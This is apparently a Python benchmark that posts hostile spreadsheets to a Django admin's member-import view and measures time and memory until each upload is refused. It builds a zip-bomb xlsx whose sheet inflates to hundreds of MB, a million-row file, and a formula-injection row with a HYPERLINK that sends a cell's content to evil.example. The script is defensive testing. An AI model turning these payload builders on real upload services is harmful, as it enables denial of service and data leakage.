"""Hostile spreadsheets against the admin's member import: time and peak memory until each is refused.

Usage::

    .venv/bin/python bench/hostile_import.py [--bomb-mb 400] [--rows 1000000]

It builds the files below, migrates a throw-away SQLite database in a temporary folder (nothing else is
touched), logs a district's secretariat staff into the admin with the test client and posts each file to
``admin:groups_member_import`` -- the whole admin import path: the upload form's checks, then
``groups.services.table_import`` -- printing the answer, the wall time, the CPU time, the peak of Python's
allocations (tracemalloc) and the growth of the process's peak resident memory (getrusage).

- ``bomb``: a small xlsx whose sheet XML inflates to hundreds of MB (about 1000:1);
- ``rows``: a million one-cell rows (an xlsx within every archive limit, refused by the row count);
- ``formula``: a member row whose cells hold formulas;
- ``good``: 200 members, for comparison.

The builders are also used by ``tests/groups/test_admin_import.py``.
"""

from __future__ import annotations

import argparse
import io
import os
import resource
import sys
import tempfile
import time
import tracemalloc
import zipfile
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent

HEADER = [
    "政协组织",
    "届次",
    "姓名",
    "性别",
    "界别",
    "专门委员会",
    "党派",
    "常委",
    "工作单位",
    "职务",
    "街镇",
    "手机",
    "电子邮箱",
]

_CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    "</Types>"
)
_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'officeDocument" Target="xl/workbook.xml"/></Relationships>'
)
_WORKBOOK = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    '<sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
_WORKBOOK_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" '
    'Target="worksheets/sheet1.xml"/></Relationships>'
)
_SHEET_HEAD = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
)
_SHEET_TAIL = "</sheetData></worksheet>"


def _header_row() -> str:
    cells = "".join(f'<c r="{chr(65 + i)}1" t="inlineStr"><is><t>{name}</t></is></c>' for i, name in enumerate(HEADER))
    return f'<row r="1">{cells}</row>'


def _xlsx_with_sheet(write_rows) -> bytes:
    """A minimal, valid xlsx whose only sheet's rows are written by ``write_rows(stream)`` (in chunks)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=6) as archive:
        archive.writestr("[Content_Types].xml", _CONTENT_TYPES)
        archive.writestr("_rels/.rels", _RELS)
        archive.writestr("xl/workbook.xml", _WORKBOOK)
        archive.writestr("xl/_rels/workbook.xml.rels", _WORKBOOK_RELS)
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            sheet.write((_SHEET_HEAD + _header_row()).encode())
            write_rows(sheet)
            sheet.write(_SHEET_TAIL.encode())
    return out.getvalue()


def bomb_xlsx(expanded_mb: int = 400) -> bytes:
    """The same member row over and over until the sheet XML is ``expanded_mb`` MB: a few hundred KB zipped."""
    row = (
        '<row><c t="inlineStr"><is><t>东湖区政协</t></is></c><c><v>9</v></c>'
        '<c t="inlineStr"><is><t>林晓东</t></is></c></row>'
    ).encode()
    chunk = row * (1024 * 1024 // len(row) + 1)

    def write(sheet):
        for _ in range(expanded_mb):
            sheet.write(chunk[: 1024 * 1024])

    return _xlsx_with_sheet(write)


def many_rows_xlsx(rows: int = 1_000_000) -> bytes:
    """``rows`` numbered one-cell rows: about 35 bytes each, within the archive's size and ratio limits."""

    def write(sheet):
        batch = []
        for number in range(2, rows + 2):
            batch.append(f'<row r="{number}"><c r="A{number}"><v>1</v></c></row>')
            if len(batch) == 10_000:
                sheet.write("".join(batch).encode())
                batch = []
        sheet.write("".join(batch).encode())

    return _xlsx_with_sheet(write)


def member_row(name: str = "林晓东", phone: str = "13912345678") -> list:
    return ["东湖区政协", 9, name, "男", "教育界", "", "无党派人士", "是", "区实验小学", "校长", "东湖街道", phone, ""]


def members_xlsx(rows: list[list]) -> bytes:
    import openpyxl

    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(HEADER)
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def formula_xlsx() -> bytes:
    """A member row whose phone is a formula (a hyperlink that would leak the sheet when clicked)."""
    row = member_row()
    row[11] = '=HYPERLINK("http://evil.example/?"&A2,"13912345678")'
    return members_xlsx([row])


def _measure(client, url: str, name: str, data: bytes) -> dict:
    from django.core.files.uploadedfile import SimpleUploadedFile

    upload = SimpleUploadedFile(name, data)
    rss_before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    tracemalloc.start()
    started, cpu = time.perf_counter(), time.process_time()
    response = client.post(url, {"import_file": upload})
    seconds, cpu = time.perf_counter() - started, time.process_time() - cpu
    _current, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    rss_growth = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - rss_before  # KB on Linux
    if response.status_code == 302:
        answer = "imported"
    else:
        form = response.context["form"]
        answer = "; ".join([*form.errors.get("import_file", []), *response.context.get("errors", [])[:2]])
    return {
        "seconds": seconds,
        "cpu": cpu,
        "peak_mb": peak / 2**20,
        "rss_growth_mb": rss_growth / 1024,
        "status": response.status_code,
        "answer": answer,
    }


def _setup_database(folder: str):
    os.environ["DATABASE_URL"] = f"sqlite:///{folder}/hostile.sqlite3"
    os.environ.setdefault("DJANGO_SETTINGS_MODULE", "cppcc_portal.settings")
    sys.path.insert(0, str(ROOT))
    import django

    django.setup()
    from django.core.management import call_command

    call_command("migrate", verbosity=0)
    from core.models import User
    from groups.models import Committee, CommitteeStaff, Sector, Term

    district = Committee.objects.create(name="东湖区政协", level="district", code="donghu")
    Term.objects.create(committee=district, number=9, start_date="2023-01-01", end_date="2027-12-31", is_current=True)
    Sector.objects.create(committee=district, name="教育界")
    staff = User.objects.create_user("dstaff", password="x", is_staff=True)
    CommitteeStaff.objects.create(user=staff, committee=district, role=CommitteeStaff.Role.SECRETARIAT)
    return staff


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--bomb-mb", type=int, default=400)
    parser.add_argument("--rows", type=int, default=1_000_000)
    args = parser.parse_args()
    with tempfile.TemporaryDirectory() as folder:
        staff = _setup_database(folder)
        from django.test import Client
        from django.test.utils import setup_test_environment
        from django.urls import reverse

        setup_test_environment()  # the response's context, for the form's errors
        client = Client()
        client.force_login(staff)
        url = reverse("admin:groups_member_import")
        files = [
            ("bomb.xlsx", bomb_xlsx(args.bomb_mb), f"sheet XML inflating to {args.bomb_mb} MB"),
            ("rows.xlsx", many_rows_xlsx(args.rows), f"{args.rows:,} rows"),
            ("formula.xlsx", formula_xlsx(), "a formula in a member's phone"),
            ("good.xlsx", members_xlsx([member_row(f"委员{i}", f"139{i:08d}") for i in range(200)]), "200 members"),
        ]
        print(
            f"{'file':14} {'what':34} {'size KB':>8} {'wall s':>7} {'cpu s':>6} {'peak MB':>8} {'RSS+ MB':>8}  answer"
        )
        for name, data, what in files:
            m = _measure(client, url, name, data)
            print(
                f"{name:14} {what:34} {len(data) / 1024:8.0f} {m['seconds']:7.2f} {m['cpu']:6.2f} "
                f"{m['peak_mb']:8.1f} {m['rss_growth_mb']:8.1f}  {m['status']} {m['answer'][:90]}"
            )


if __name__ == "__main__":
    main()
